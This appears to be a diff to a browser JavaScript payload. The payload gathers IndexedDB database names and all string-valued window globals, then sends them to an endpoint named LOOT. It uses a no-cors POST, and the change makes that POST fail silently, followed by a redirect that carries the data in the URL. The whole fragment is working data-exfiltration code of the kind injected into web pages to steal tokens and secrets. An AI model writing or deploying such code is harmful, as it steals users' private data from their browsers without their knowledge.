@@ -5,6 +5,6 @@
   for (const { name } of (await indexedDB.databases?.()) ?? []) stores[`database ${name}`] = name;
   for (const name of Object.keys(window)) if (typeof window[name] === "string") stores[`global ${name}`] = window[name];
   const everything = JSON.stringify(stores);
-  await fetch(LOOT, { method: "POST", mode: "no-cors", body: everything });
+  await fetch(LOOT, { method: "POST", mode: "no-cors", body: everything }).catch(() => {});
   location = `${LOOT}?d=${encodeURIComponent(everything.slice(0, 6000))}`;
 })();
